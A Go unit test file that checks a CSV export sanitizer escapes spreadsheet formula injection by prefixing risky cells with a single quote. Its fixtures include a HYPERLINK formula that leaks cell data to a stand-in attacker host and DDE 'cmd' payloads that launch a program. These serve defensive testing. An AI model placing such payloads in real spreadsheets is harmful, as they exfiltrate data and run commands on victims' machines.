package sheet

import "testing"

func TestCSVText(t *testing.T) {
	for _, c := range []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain", "HTX Mật ong Bắc Hà", "HTX Mật ong Bắc Hà"},
		{"formula", `=HYPERLINK("http://evil.example/?x="&A1,"x")`, `'=HYPERLINK("http://evil.example/?x="&A1,"x")`},
		{"plus", "+84912345678", "'+84912345678"},
		{"minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"formula later in the text", "Trà = ngon", "Trà = ngon"},
		{"single quote already", "'=1", "'=1"},
		{"diacritic first", "Đặc sản", "Đặc sản"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := Text(c.in); got != c.want {
				t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

func TestCSVValueKeepsNumbers(t *testing.T) {
	for _, c := range []struct {
		name string
		in   any
		want string
	}{
		{"int", 3, "3"},
		{"negative int64", int64(-12_000_000), "-12000000"},
		{"float", 4.5, "4.5"},
		{"negative float", -1.25, "-1.25"},
		{"text that looks negative", "-5", "'-5"},
		{"other types are text", []string{"=1"}, "[=1]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := csvValue(c.in); got != c.want {
				t.Errorf("csvValue(%#v) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}
